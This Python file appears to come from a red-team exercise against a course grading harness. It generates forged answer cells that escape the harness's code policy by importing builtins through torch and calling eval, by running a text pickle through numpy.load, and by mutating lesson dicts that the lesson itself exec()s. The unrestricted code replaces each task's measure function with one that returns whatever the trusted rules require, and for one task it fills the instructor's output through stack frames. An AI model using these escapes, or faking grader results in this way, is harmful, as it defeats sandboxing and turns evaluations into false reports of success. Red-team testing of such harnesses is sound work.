"""Forging answers for fix-type tasks (third red team, session 25). Each is the student's answer cell.

The policy checks attribute *names* (``torch.builtins`` is refused) but not the names an
``from MODULE import NAME`` brings in: ``from torch import builtins`` (torch/__init__.py imports
builtins, os, sys, inspect, functools, ...) binds the builtins module to a plain name, and
``builtins.eval`` is read without the load guard because ``eval`` is a public name (nn.Module.eval).
From there the answer is unrestricted Python.
"""
ATTACKS = {}

# Unrestricted code, run by the answer's first two lines. It replaces the task's entry in
# harness.TASKS (a dict's *contents*: the seal compares only the harness module's names) by one
# whose measure reads the task's own trusted rules (the harness computes them from the lesson's
# code, which every judge notebook runs) and returns evidence that meets each of them.
FORGE = r'''
import sys, dataclasses
H = sys.modules["labkit.grading.harness"]
old = H.TASKS[TASK]

def fake(params, ns, ctx):
    found, lo, hi = {}, {}, {}
    for r in old.rules(params, ctx):
        f, k = r["field"], r["rule"]
        if k in ("close", "close_all"):
            found[f] = r["want"]
        elif k == "eq":
            found[f] = r["value"]
        elif k == "true":
            found[f] = True
        elif k == "none_contains":
            found.setdefault(f, [])
        elif k == "any_contains":
            found[f] = [r["text"]]
        elif k == "at_least":
            lo[f] = max(lo.get(f, r["value"]), r["value"])
        elif k == "at_most":
            hi[f] = min(hi.get(f, r["value"]), r["value"])
    for f in set(lo) | set(hi):
        found.setdefault(f, lo.get(f, hi.get(f)))
    return found

H.TASKS[TASK] = dataclasses.replace(old, measure=fake)
'''


def forge(task: str, names: tuple[str, ...]) -> str:
    """The answer cell: the two lines that leave the policy, and the names the harness looks up."""
    stubs = "".join(f"\n\ndef {n}(*args):\n    pass\n" for n in names)
    return (f"from torch import builtins\n\n"
            f"builtins.eval('exec(FORGE)', {{'FORGE': {FORGE!r}, 'TASK': {task!r}}})\n" + stubs)


for _task, _names in {"2.2": ("train_fixed",), "3.3": ("ScorerFixed",), "4.1": ("softplus",),
                      "9.1": (), "9.3": ("clip2_",), "10.2": ("pooled_fixed", "prepare"),
                      "11.2": ("block_lean",), "12.1": ("SteadyGain",), "12.2": ("BalancedLoss",), "12.3": ("SteadyWarmup",),
                      "12.4": ("SteadyTame",),
                      "14.1": ("GateFixed", "DYNAMIC_SHAPES")}.items():
    ATTACKS[_task, "import_builtins_eval"] = forge(_task, _names)

# 7.1 (a library file: only the kernel's definition is loaded, decorators included). Triton's
# interpreter (no GPU) runs the kernel's body as Python, so the same two lines work in the body;
# the unrestricted code walks up to the instructor's launcher and fills its `out` with
# torch.softmax. The kernel computes nothing.
FILL71 = r'''
import sys, torch
f = sys._getframe()
while f is not None and not ("out" in f.f_locals and "x" in f.f_locals):
    f = f.f_back
if f is not None:
    f.f_locals["out"].copy_(torch.softmax(f.f_locals["x"], dim=-1))
'''
ATTACKS["7.1", "import_builtins_eval"] = f'''
import triton
import triton.language as tl


@triton.jit
def softmax_kernel(out_ptr, in_ptr, n_cols, in_stride, out_stride, BLOCK: tl.constexpr):
    from torch import builtins
    builtins.eval('exec(FILL)', {{'FILL': {FILL71!r}}})
'''


# The same forger without importing a module: only *functions* by names the policy refuses as
# attributes (`.load`, `.savetxt`), imported under their own names. numpy.savetxt writes any text
# (here a protocol-0 pickle, which is text: `c builtins / exec / (V<source> / (d t R .`), and
# numpy.load(allow_pickle=True) unpickles a file that is neither .npy nor .npz: builtins.exec runs.
def _pickle0(source: str) -> list[str]:
    escaped = "".join(c if 32 <= ord(c) < 127 and c != "\\" else f"\\u{ord(c):04x}" for c in source)
    return ["cbuiltins", "exec", "(V" + escaped, "(dtR."]


def forge_pickle(task: str, names: tuple[str, ...]) -> str:
    """The answer cell: savetxt a pickle, numpy.load it; then the names the harness looks up."""
    lines = _pickle0(f"TASK = {task!r}\n" + FORGE)
    stubs = "".join(f"\n\ndef {n}(*args):\n    pass\n" for n in names)
    return (f"import numpy\nfrom numpy import load, savetxt\n\n"
            f"savetxt('/tmp/labkit-rt3-{task}.txt', numpy.array({lines!r}), fmt='%s')\n"
            f"load('/tmp/labkit-rt3-{task}.txt', allow_pickle=True)\n" + stubs)


for (_task, _kind), _src in list(ATTACKS.items()):
    if _task != "7.1":
        _names = tuple(line[4:line.index("(")] for line in _src.splitlines() if line.startswith("def "))
        ATTACKS[_task, "numpy_load_pickle"] = forge_pickle(_task, _names)


# No escape from the policy at all: a *method call* on a container the lesson holds. The judge
# notebook runs the notebook's lesson cells, and the answer's module gets their names (the same
# objects): ex03's STATEMENTS dict and build(), which calls nbcheck.function_of, which exec()s
# the statements it looks up in STATEMENTS. The item guard refuses STATEMENTS[k] = ..., but
# STATEMENTS.update(...) is a call (the open item "mutating methods"): the lesson's own code then
# runs the answer's string as unrestricted Python. The same in ex04 (4.1: STATEMENTS, program),
# ex10 (10.2: SOURCES, counted) and ex11 (11.2: STATEMENTS, step).
LESSON_EXEC = {"3.3": ("STATEMENTS", "build([{key!r}])(torch.zeros(1))"),
               "4.1": ("STATEMENTS", "program([{key!r}])(torch.zeros(1), torch.zeros(1))"),
               "10.2": ("SOURCES", "counted({key!r}, 'none', 'scale')(torch.zeros(1))"),
               "11.2": ("STATEMENTS", "step([{key!r}])(torch.zeros(1), torch.zeros(1), torch.zeros(1))")}


def forge_lesson(task: str, names: tuple[str, ...]) -> str:
    """The answer cell: one update() of a lesson dict and one call of the lesson's builder."""
    table, call = LESSON_EXEC[task]
    line = f"exec({('TASK = ' + repr(task) + chr(10) + FORGE)!r}, {{}}); k = 1"
    stubs = "".join(f"\n\ndef {n}(*args):\n    pass\n" for n in names)
    return (f"import torch\n\n{table}.update({{'rt3': {line!r}}})\n"
            f"{call.format(key='rt3')}\n" + stubs)


for _task in LESSON_EXEC:
    _names = {"3.3": ("ScorerFixed",), "4.1": ("softplus",), "10.2": ("pooled_fixed", "prepare"),
              "11.2": ("block_lean",)}[_task]
    ATTACKS[_task, "lesson_dict_update"] = forge_lesson(_task, _names)
